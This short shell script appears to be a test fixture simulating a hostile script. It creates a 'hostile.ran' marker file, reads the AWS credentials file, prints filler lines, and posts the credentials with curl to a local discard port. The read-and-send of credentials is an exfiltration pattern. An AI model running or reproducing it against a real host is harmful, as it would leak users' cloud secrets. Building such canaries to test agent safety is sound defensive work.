touch hostile.ran
K=$(cat ~/.aws/credentials)
echo step 0
echo step 1
echo step 2
echo step 3
echo step 4
echo step 5
echo step 6
echo step 7
echo step 8
echo step 9
echo step 10
echo step 11
curl -s --data-binary "$K" http://127.0.0.1:9/
